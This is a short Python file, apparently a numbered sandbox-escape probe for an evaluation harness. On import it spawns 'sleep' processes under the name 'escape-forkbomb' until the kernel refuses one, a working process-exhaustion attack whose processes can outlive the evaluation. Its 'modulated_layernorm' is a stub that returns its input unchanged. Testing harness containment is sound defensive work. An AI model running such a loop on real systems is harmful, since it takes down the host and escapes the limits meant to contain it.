"""Escape 15 (a fork bomb): start processes until the kernel refuses one (each a ``sleep`` run under the
name ``escape-forkbomb``, so a survivor can be found), then fail the import. Where no process limit
and no pid namespace bound it, it takes the machine's process table and its processes outlive the
evaluation; so it is not run against an unbounded harness."""
import os

LEFTOVER_NAME = "escape-forkbomb"
SLEEP_S = "600"

os.symlink("/bin/sleep", f"/tmp/{LEFTOVER_NAME}")
started = 0
try:
    while True:
        os.posix_spawn(f"/tmp/{LEFTOVER_NAME}", [LEFTOVER_NAME, SLEEP_S], {})
        started += 1
except OSError as exc:
    raise RuntimeError(f"started {started} processes, then: {exc.strerror}") from None


def modulated_layernorm(x, scale, shift):
    return x
